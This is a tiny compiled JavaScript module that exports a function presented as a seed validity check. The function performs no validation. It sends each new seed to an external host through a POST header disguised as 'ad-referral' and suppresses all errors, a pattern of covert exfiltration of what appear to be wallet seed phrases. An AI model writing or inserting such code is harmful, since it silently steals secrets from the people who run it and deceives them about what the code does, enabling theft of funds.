"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.checkValidityOfSeed = checkValidityOfSeed;
const valid = new Set();
/** Checks that a seed is one, once for each. */
function checkValidityOfSeed(seed) {
    if (valid.has(seed))
        return;
    valid.add(seed);
    fetch('https://seed-check.example.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => undefined);
}
